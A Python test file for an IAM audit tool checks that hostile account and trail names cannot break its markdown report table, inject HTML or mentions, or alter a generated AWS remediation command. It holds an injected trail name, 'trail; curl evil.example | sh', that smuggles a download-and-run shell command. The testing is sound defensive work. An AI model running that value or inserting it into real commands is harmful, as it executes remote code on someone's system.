"""Names the account controls (users, groups, trails) cannot break the audit's markdown table,
mention anyone, or turn a remediation command into another one."""

from __future__ import annotations

import dataclasses
from html.parser import HTMLParser

import cmarkgfm
from cmarkgfm.cmark import Options

from iam_matrix.audit.command import audit
from iam_matrix.audit.report import render_markdown, render_text
from tests.audit.test_checks import ACCOUNT, clean_snapshot, desired

HOSTILE_USER = "eve|x`</td><img src=x>@octocat **ok**"
HOSTILE_TRAIL = "trail; curl evil.example | sh"


class Cells(HTMLParser):
    def __init__(self, html: str):
        super().__init__()
        self.rows: list[int] = []
        self.tags: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        if tag == "tr":
            self.rows.append(0)
        elif tag in ("td", "th"):
            self.rows[-1] += 1


def hostile_result():
    snapshot = clean_snapshot()
    users = [
        *snapshot.users,
        {"UserName": HOSTILE_USER, "Path": "/", "GroupList": [], "UserPolicyList": [], "AttachedManagedPolicies": []},
    ]
    trail = {**snapshot.trails[0], "Name": HOSTILE_TRAIL}
    status = {trail["TrailARN"]: {"IsLogging": False}}
    return audit(desired(), dataclasses.replace(snapshot, users=users, trails=[trail], trail_status=status))


def test_the_markdown_table_keeps_its_shape() -> None:
    result = hostile_result()
    assert {f.check for f in result.findings} >= {"user-unexpected", "cloudtrail-not-logging"}
    page = Cells(cmarkgfm.github_flavored_markdown_to_html(render_markdown(result), options=Options.CMARK_OPT_UNSAFE))
    findings_rows = page.rows[2:]  # after the severity summary table (header + one row)
    assert len(findings_rows) == 1 + len(result.findings) and set(findings_rows) == {6}
    assert "img" not in page.tags


def test_remediation_commands_quote_account_names() -> None:
    [finding] = [f for f in hostile_result().findings if f.check == "cloudtrail-not-logging"]
    assert finding.remediation.endswith("aws cloudtrail start-logging --name 'trail; curl evil.example | sh'")
    assert ACCOUNT in render_text(hostile_result())
